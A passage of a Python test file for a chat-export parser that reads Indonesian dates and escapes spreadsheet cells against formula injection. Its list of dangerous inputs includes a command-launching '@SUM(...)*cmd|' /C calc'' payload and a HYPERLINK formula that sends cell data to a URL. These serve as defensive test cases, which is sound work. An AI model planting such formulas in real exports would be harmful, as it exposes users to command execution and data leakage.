        ("26 Mei 2026 10.00 - Siti: ", (2026, 5, 26)),
        ("26 Agustus 2026 10.00 - Siti: ", (2026, 8, 26)),
        ("May 26, 2026 10:00 - Siti: ", (2026, 5, 26)),
        ("30/8 08.00 - Siti: ", None),
        ("31/31/25 10.00 - Siti: ", None),
        ("12/12/1812 10.00 - Siti: ", None),
        ("26 Xyz 2026 10.00 - Siti: ", None),
    ],
)
def test_the_day_in_a_header(header: str, day: tuple[int, int, int] | None) -> None:
    assert day_in(header) == (day and datetime.date(*day))


@pytest.mark.parametrize("size", [1, 7, 64, 100_000])
def test_days_however_the_text_is_cut(size: int) -> None:
    text = CHAT.replace("\n", "\r\n") + "x" * 70_000 + "\n" + CHAT.replace("/25", "/24")
    days = Days()
    pieces = (text[at : at + size] for at in range(0, len(text), size))
    read = "".join(days.of_chunks(pieces))
    assert read == text
    found = [days.of(report) for report in ktpmsg.find(text)]
    assert [day and day.year for day in found] == [2025, 2025, 2026, 2024, 2024, 2026]
    assert Days().of(ktpmsg.check(KTP)) is None


SIGNS = "=+-@＝＋－＠"
DANGEROUS = [sign + "1" for sign in SIGNS] + [
    *("\t=1", "\r=1", "\n=1", "\t1", "\r1", " =1", "'=1", '"=1', "''=1"),
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    *("3308155508959001", "0812", "1e5", "-3308155508959001", "(5)", ".5", "Mei 9", "1/2"),
]
HARMLESS = ["", "Siti Aminah", "'Aisyah", "***", "Jl. Mawar, Blok B; RT tiga", "élan", "'"]
CELLS = st.text(st.one_of(st.sampled_from("=+-@'\",;|\t\r\n a1＝"), st.characters()))


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_change_is_shielded(text: str) -> None:
    cell = shielded(text)
    assert cell.startswith("'")
    assert cell != text
    assert bare(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert shielded(text) == bare(text) == text


@given(CELLS)
def test_a_cell_can_be_read_back(text: str) -> None:
    assert bare(shielded(text)) == text


@given(CELLS, st.sampled_from(",;\t|"), st.sampled_from(",;"))
def test_no_cell_begins_with_a_formula(text: str, read_at: str, written_at: str) -> None:
    """Whichever separator a spreadsheet parts the cells at."""
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=written_at, quoting=csv.QUOTE_ALL).writerow(["file", shielded(text)])
    file.seek(0)
    for row in csv.reader(file, delimiter=read_at):
        for cell in row:
            assert cell.lstrip(' "')[:1] not in set(SIGNS)


@given(CELLS)
def test_no_cell_is_a_number(text: str) -> None:
    cell = shielded(text)
    assert cell.startswith("'") or not any(map(str.isdigit, cell))


def test_memory_is_bounded(folder: Path) -> None:
    """A chat of several times the memory that it takes; Arrow's own is not counted."""
    size = 20_000_000
    with (folder / "long.txt").open("w", encoding="utf-8") as file:
        for _ in range(size // 200):
            file.write("30/08/25 18.00 - Siti: " + "selamat pagi " * 13 + "\n")
        file.write(KTP)
    archive("exports/chat.txt")  # what is loaded once
    tracemalloc.start()
    assert archive("exports/long.txt") == 0
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < size / 3
